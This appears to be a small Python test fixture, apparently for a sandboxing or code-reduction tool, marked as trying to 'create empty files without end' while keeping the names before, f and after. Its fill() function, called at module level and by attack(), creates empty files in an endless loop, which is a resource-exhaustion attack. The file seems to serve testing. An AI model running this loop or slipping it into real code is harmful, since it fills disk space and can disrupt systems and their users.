# tries: create empty files without end
# keeps: before f after
before = 1


def f(n):
    return 2 * n


import itertools


def fill():
    for number in itertools.count():
        open(f"{number}", "w").close()


fill()


def attack(n):
    fill()


after = 2
